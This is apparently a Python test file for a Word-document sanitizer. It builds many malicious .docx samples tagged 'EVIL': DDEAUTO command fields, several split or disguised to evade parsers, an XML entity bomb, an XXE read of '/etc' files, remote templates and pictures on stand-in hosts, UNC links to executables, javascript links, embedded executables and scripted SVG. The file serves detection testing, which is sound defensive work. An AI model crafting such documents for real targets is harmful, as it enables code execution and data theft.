"""Documents of Word that do what no reader asked for.

Each holds « EVIL » where its harm is: the file is refused, or comes out without.
"""

import re

from tests.documents import REL, W, docx, relations

MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"
STRICT = "http://purl.oclc.org/ooxml/officeDocument/relationships"


def settings(inner: str) -> dict:
    return {"word/settings.xml": f'<w:settings xmlns:w="{W}" xmlns:r="{REL}">{inner}</w:settings>'}


def run(inner: str) -> str:
    return f"<w:p><w:r>{inner}</w:r></w:p>"


def field(words: str) -> str:
    """Return a field whose words are cut into pieces, as evasion does."""
    pieces = "".join(
        f"<w:r><w:instrText>{letter}</w:instrText></w:r>" for letter in re.findall("EVIL|.", words)
    )
    return (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{pieces}<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        '<w:r><w:t>montré</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def utf16(text: str) -> bytes:
    return text.replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")


def with_entities() -> bytes:
    bomb = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 9))
    text = f'<!DOCTYPE w [<!ENTITY e0 "EVIL">{bomb}]><w:document xmlns:w="{W}"><w:body>&e8;</w:body></w:document>'
    return docx(parts={"word/document.xml": text})


def with_file_of_the_server() -> bytes:
    text = f'<!DOCTYPE w [<!ENTITY e SYSTEM "file:///etc/EVIL">]><w:document xmlns:w="{W}">&e;</w:document>'
    return docx(parts={"word/document.xml": text})


IGNORED = (
    'xmlns:x="http://x.example/" xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" '
    'mc:Ignorable="x"'
)


def disguised(before: str, harm: str = ' INCLUDEPICTURE "http://EVIL.example/x" ') -> bytes:
    """Return a document with a field, before whose words something stands that Word does not read."""
    return docx(
        f'<w:p {IGNORED}><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r>{before}<w:instrText>{harm}</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>montré</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def made_by_another(words: str) -> str:
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText>{words}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>montré</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


OLE = '<w:object><v:shape/><o:OLEObject Type="Embed" ProgID="{}" r:id="e"/></w:object>'
TEMPLATE = '<w:attachedTemplate r:id="e"/>'
FAR = "!https://EVIL.example/x"

HOSTILE = {
    # Word: what acts
    "macros": ("docx", docx(parts={"word/x.bin": "EVIL"}, links=[("e", f"{MICROSOFT}/vbaProject", "x.bin")])),
    "macros renamed": (
        "docx",
        docx(
            parts={"word/theme/t.xml": "EVIL"},
            links=[("e", f"{MICROSOFT}/vbaProject", "theme/t.xml")],
            types={"word/theme/t.xml": "application/xml"},
        ),
    ),
    "macro document by type": (
        "docx",
        docx(types={"word/document.xml": "application/vnd.ms-word.document.macroEnabled.main+xml"}),
    ),
    "macros nobody leads to": ("docx", docx(parts={"word/vbaProject.bin": "EVIL"})),
    "dde in pieces": ("docx", docx(field('DDEAUTO c:\\\\EVIL "/k calc"'))),
    "dde in a simple field": (
        "docx",
        docx('<w:p><w:fldSimple w:instr=" DDE EVIL x "><w:r/></w:fldSimple></w:p>'),
    ),
    "dde with another prefix": (
        "docx",
        docx(f'<x:p xmlns:x="{W}"><x:fldSimple x:instr="DDEAUTO EVIL"><x:r/></x:fldSimple></x:p>'),
    ),
    "dde with an entity for a letter": ("docx", docx('<w:p><w:fldSimple w:instr="&#68;DEAUTO EVIL"/></w:p>')),
    "field behind words of another kind": ("docx", disguised("<x:instrText>PAGE</x:instrText>")),
    "field behind words that nobody reads": (
        "docx",
        disguised("<x:any><w:instrText>PAGE</w:instrText></x:any>"),
    ),
    "field behind words that were deleted": (
        "docx",
        disguised("<w:delInstrText>PAGE</w:delInstrText>"),
    ),
    "field behind words of its text": (
        "docx",
        disguised("<w:t>HYPERLINK</w:t>", ' HYPERLINK "ms-x:EVIL" '),
    ),
    "field behind words that are not chosen": (
        "docx",
        disguised(
            '<mc:AlternateContent><mc:Choice Requires="x"><w:instrText>PAGE</w:instrText></mc:Choice>'
            "<mc:Fallback/></mc:AlternateContent>"
        ),
    ),
    "field behind an attribute of another kind": (
        "docx",
        docx(f'<w:p {IGNORED}><w:fldSimple x:instr="PAGE" w:instr="DDEAUTO EVIL"><w:r/></w:fldSimple></w:p>'),
    ),
    "field whose whole words another one makes": (
        "docx",
        docx(made_by_another('IF 1=1 "INCLUDEPICTURE http://EVIL.example/x"')),
    ),
    "dde made by a nested field": (
        "docx",
        docx(
            run('<w:fldChar w:fldCharType="begin"/>')
            + run("<w:instrText>DDEAUTO </w:instrText>")
            + field("QUOTE 69 86 EVIL")
            + run('<w:fldChar w:fldCharType="end"/>')
        ),
    ),
    "dde in a header": (
        "docx",
        docx(
            parts={
                "word/header1.xml": f'<w:hdr xmlns:w="{W}"><w:p><w:fldSimple w:instr="DDE EVIL"/></w:p></w:hdr>'
            },
            links=[("h", "header", "header1.xml")],
        ),
    ),
    "field that never ends": (
        "docx",
        docx(run('<w:fldChar w:fldCharType="begin"/>') + run("<w:instrText>DDEAUTO EVIL</w:instrText>")),
    ),
    "field that takes in a file": ("docx", docx(field('INCLUDETEXT "\\\\\\\\EVIL\\\\x"'))),
    "field that loads a picture": ("docx", docx(field('INCLUDEPICTURE "http://EVIL.example/x.png" \\d'))),
    "link to a file of the network": ("docx", docx(field('HYPERLINK "file://EVIL/share/x.exe"'))),
    "relation to a file of the network": (
        "docx",
        docx('<w:p><w:hyperlink r:id="e"/></w:p>', links=[("e", "hyperlink", "!\\\\EVIL\\x.exe")]),
    ),
    "script as a link": (
        "docx",
        docx('<w:p><w:hyperlink r:id="e"/></w:p>', links=[("e", "hyperlink", "!javascript:EVIL")]),
    ),
    "active control": (
        "docx",
        docx(run('<w:control r:id="e"/>'), {"word/c.xml": "<EVIL/>"}, [("e", "control", "c.xml")]),
    ),
    "form field with a macro": ("docx", docx(run('<w:ffData><w:entryMacro w:val="EVIL"/></w:ffData>'))),
    # Word: what is carried or loaded
    "another document taken in": (
        "docx",
        docx('<w:altChunk r:id="e"/>', {"word/x.html": "EVIL"}, [("e", "aFChunk", "x.html")]),
    ),
    "another document without its relation": ("docx", docx('<w:altChunk r:id="EVIL"/>')),
    "document of parts": ("docx", docx('<w:subDoc r:id="e"/>', links=[("e", "subDocument", FAR)])),
    "executable in an object": (
        "docx",
        docx(
            run(OLE.format("Package")),
            {"word/embeddings/o.bin": "MZ EVIL"},
            [("e", "oleObject", "embeddings/o.bin")],
        ),
    ),
    "executable behind an equation": (
        "docx",
        docx(run(OLE.format("Equation.3")), {"word/o.bin": "EVIL"}, [("e", "oleObject", "o.bin")]),
    ),
    "executable as a picture": (
        "docx",
        docx(parts={"word/media/x.png": "MZ EVIL"}, links=[("e", "image", "media/x.png")]),
    ),
    "object of elsewhere": ("docx", docx(run(OLE.format("htmlfile")), links=[("e", "oleObject", FAR)])),
    "template of elsewhere": (
        "docx",
        docx(
            parts=settings(TEMPLATE),
            links=[("s", "settings", "settings.xml")],
            more_links={"word/settings.xml": [("e", "attachedTemplate", FAR)]},
        ),
    ),
    "template of elsewhere, strict": (
        "docx",
        docx(
            parts=settings(TEMPLATE),
            links=[("s", "settings", "settings.xml")],
            more_links={"word/settings.xml": [("e", f"{STRICT}/attachedTemplate", FAR)]},
        ),
    ),
    "template of elsewhere in UTF-16": (
        "docx",
        docx(
            parts={
                **{name: utf16(text) for name, text in settings(TEMPLATE).items()},
                "word/_rels/settings.xml.rels": utf16(relations([("e", "attachedTemplate", FAR)])),
            },
            links=[("s", "settings", "settings.xml")],
        ),
    ),
    "picture of elsewhere": (
        "docx",
        docx(run('<w:drawing><a:blip r:link="e"/></w:drawing>'), links=[("e", "image", FAR)]),
    ),
    "picture of elsewhere in an old drawing": (
        "docx",
        docx(run('<w:pict><v:shape><v:imagedata src="http://EVIL.example/x.png"/></v:shape></w:pict>')),
    ),
    "frames of elsewhere": (
        "docx",
        docx(
            parts={"word/webSettings.xml": f'<w:webSettings xmlns:w="{W}"><w:frameset/></w:webSettings>'},
            links=[("s", "webSettings", "webSettings.xml")],
            more_links={"word/webSettings.xml": [("e", "frame", FAR)]},
        ),
    ),
    "letters for data of elsewhere": (
        "docx",
        docx(
            parts=settings('<w:mailMerge><w:connectString w:val="EVIL"/></w:mailMerge>'),
            links=[("s", "settings", "settings.xml")],
        ),
    ),
    "unknown relation that is used": (
        "docx",
        docx(run('<w:x r:id="e"/>'), {"word/x.xml": "<EVIL/>"}, [("e", "http://x/somethingNew", "x.xml")]),
    ),
    "unknown relation outside": ("docx", docx(links=[("e", "http://x/somethingNew", FAR)])),
    "entities without end": ("docx", with_entities()),
    "a file of the server": ("docx", with_file_of_the_server()),
    "ribbon with calls": (
        "docx",
        docx(
            parts={"customUI/x.xml": "<EVIL/>"},
            root=[("e", f"{MICROSOFT.replace('2006', '2007')}/ui/extensibility", "customUI/x.xml")],
        ),
    ),
    "drawing with the name of a folder": (
        "docx",
        docx(
            parts={
                "word/media/x.svg": "<svg xmlns='http://www.w3.org/2000/svg' xmlns:i='http://i.example/' i:path='/home/EVIL'><i:view>EVIL</i:view><path style='fill:u\\72l(//EVIL/x)' d='M0 0'/></svg>"
            },
            links=[("e", "image", "media/x.svg")],
        ),
    ),
    "drawing with a script": (
        "docx",
        docx(
            parts={
                "word/media/x.svg": "<svg xmlns='http://www.w3.org/2000/svg' onload='EVIL()'><script>EVIL</script></svg>"
            },
            links=[("e", "image", "media/x.svg")],
        ),
    ),
}
